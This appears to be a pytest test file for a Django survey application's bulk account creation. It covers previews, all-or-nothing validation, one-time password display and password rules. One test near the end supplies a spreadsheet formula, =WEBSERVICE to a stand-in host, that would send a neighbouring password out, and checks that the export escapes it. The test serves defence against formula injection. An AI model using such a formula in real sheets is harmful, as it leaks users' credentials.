"""Many accounts at once: looked at first, then all or none, each password told once."""

from __future__ import annotations

import base64
import re

import pytest
from pytest_django import Settings

from surveys.models import TrailEntry, User
from surveys.people.passwords import first_password, password_rules
from surveys.people.services.user import user_create, user_set_password
from tests.builders import PASSWORD, Cast
from tests.web.people import browser

pytestmark = pytest.mark.django_db
ADDRESS = "/accounts/new/"
MINIMUM = "django.contrib.auth.password_validation.MinimumLengthValidator"
LIST = "李伟\tliwei\tassistant\n王芳\twangfang\treviewer\n"


def _users() -> list[str]:
    return list(User.objects.order_by("pk").values_list("username", flat=True))


def test_a_list_is_shown_first_and_stores_nothing(cast: Cast) -> None:
    before = _users()
    page = browser(cast.administrator).post(ADDRESS, {"lines": LIST})
    assert page.status_code == 200
    text = page.content.decode()
    assert "Make 2 accounts" in text
    assert [line.account.username for line in page.context["lines"]] == ["liwei", "wangfang"]
    assert _users() == before
    assert not TrailEntry.objects.exists()


def test_one_wrong_line_keeps_all_out_and_is_named(cast: Cast) -> None:
    before = _users()
    wrong = f"{LIST}陈\tcoder\tassistant\n"
    for step in ("", "create"):
        page = browser(cast.administrator).post(ADDRESS, {"lines": wrong, "step": step})
        assert page.status_code == 422
        text = page.content.decode()
        assert "Nothing is stored: 1 line has to be put right." in text
        assert "There is an account coder already." in text
        assert "陈\tcoder\tassistant" in text, "what was pasted stays"
        assert 'value="create"' not in text
    assert _users() == before


@pytest.mark.parametrize(
    ("lines", "told"),
    [
        ("", "This field is required"),
        ("姓名,用户名,角色", "There is no account in the list."),
        ("".join(f"人{n},name{n},analyst\n" for n in range(51)), "At most 50 accounts at once."),
    ],
)
def test_no_list_and_a_long_one_are_refused(cast: Cast, lines: str, told: str) -> None:
    before = _users()
    page = browser(cast.administrator).post(ADDRESS, {"lines": lines, "step": "create"})
    assert page.status_code == 422
    assert told in page.content.decode()
    assert _users() == before


def test_the_passwords_are_told_once_and_each_opens_its_account(cast: Cast) -> None:
    client = browser(cast.administrator)
    page = client.post(ADDRESS, {"lines": LIST, "step": "create"})
    assert page.status_code == 200
    assert page.headers["Cache-Control"] == "private, no-store"
    made = [account for account, _role in page.context["made"]]
    assert [account.username for account in made] == ["liwei", "wangfang"]
    for account in made:
        user = User.objects.get(username=account.username)
        assert user.check_password(account.password)
        assert (user.full_name, user.role) == (account.full_name, account.role)
        assert user.must_change_password
    text = page.content.decode()
    copied = re.search(r"<textarea[^>]*readonly>([^<]*)<", text)
    assert copied is not None
    assert copied[1].splitlines()[1].split("\t")[3] == made[0].password
    file = re.search(r'href="data:text/csv;base64,([^"]*)"', text)
    assert file is not None
    rows = base64.b64decode(file[1]).decode("utf-8-sig").splitlines()
    assert rows[2].split(",") == ["王芳", "wangfang", "Reviewer", made[1].password]
    entries = TrailEntry.objects.filter(action="user.create")
    assert [entry.actor for entry in entries] == [cast.administrator] * 2
    assert made[0].password not in str([(e.changes, e.subject) for e in entries])
    again = client.post(ADDRESS, {"lines": LIST, "step": "create"})
    assert again.status_code == 422
    assert made[0].password not in again.content.decode()


def test_passwords_differ_and_pass_the_rules() -> None:
    words = {first_password() for _ in range(50)}
    assert len(words) == 50
    assert {len(word) for word in words} == {14}
    assert not set("".join(words)) & set("01loi")


def test_what_is_told_is_what_is_checked(settings: Settings) -> None:
    """One sentence for all validators: another one needs other words."""
    kinds = {row["NAME"].rpartition(".")[2] for row in settings.AUTH_PASSWORD_VALIDATORS}
    assert kinds == {
        "UserAttributeSimilarityValidator",
        "MinimumLengthValidator",
        "CommonPasswordValidator",
        "NumericPasswordValidator",
    }
    longer = {"NAME": MINIMUM, "OPTIONS": {"min_length": 17}}
    settings.AUTH_PASSWORD_VALIDATORS = [longer]
    assert "17" in str(password_rules())


def test_a_first_password_is_one_that_somebody_else_set(cast: Cast) -> None:
    own = user_create(actor=None, username="own", password=PASSWORD, role="analyst")
    assert not own.must_change_password
    user_set_password(actor=cast.administrator, user=own, password="handed-over-77")
    assert User.objects.get(pk=own.pk).must_change_password
    user_set_password(actor=own, user=own, password="my-own-choice-77")
    assert not User.objects.get(pk=own.pk).must_change_password
    user_set_password(actor=None, user=own, password="of-the-machine-77")
    assert not User.objects.get(pk=own.pk).must_change_password


def test_the_administration_s_forms_tell_the_rules_and_check_them(cast: Cast) -> None:
    client = browser(cast.administrator)
    added = {"username": "zhangsan99", "full_name": "", "role": "analyst"}
    for address in ("/admin/surveys/user/add/", f"/admin/surveys/user/{cast.coder.pk}/change/"):
        assert "At least 10 characters" in client.get(address).content.decode()
    refused = client.post("/admin/surveys/user/add/", {**added, "password": "zhangsan99"})
    assert "too similar to the user name" in refused.content.decode()
    assert not User.objects.filter(username="zhangsan99").exists()
    made = client.post("/admin/surveys/user/add/", {**added, "password": "a-strange-word-5"})
    assert made.status_code == 302
    assert User.objects.get(username="zhangsan99").must_change_password
    listed = client.get("/admin/surveys/user/").content.decode()
    assert 'href="/accounts/new/"' in listed
    assert "first password" in listed
    seen_by_a_manager = browser(cast.manager).get("/admin/surveys/user/").content.decode()
    assert 'href="/accounts/new/"' not in seen_by_a_manager


def test_a_name_is_no_formula_where_the_passwords_are_pasted(cast: Cast) -> None:
    """It would stand beside them in the same sheet."""
    lines = '=WEBSERVICE("http://x.example/"&D2)\tliwei\tanalyst\n'
    page = browser(cast.administrator).post(ADDRESS, {"lines": lines, "step": "create"})
    assert page.context["text"].splitlines()[1].startswith("'=WEBSERVICE")


def test_no_two_names_differ_in_capitals_alone(cast: Cast) -> None:
    data = {"username": "CODER", "full_name": "x", "role": "analyst", "password": PASSWORD}
    page = browser(cast.administrator).post("/admin/surveys/user/add/", data)
    assert "There is an account CODER already." in page.content.decode()
    assert not User.objects.filter(username="CODER").exists()
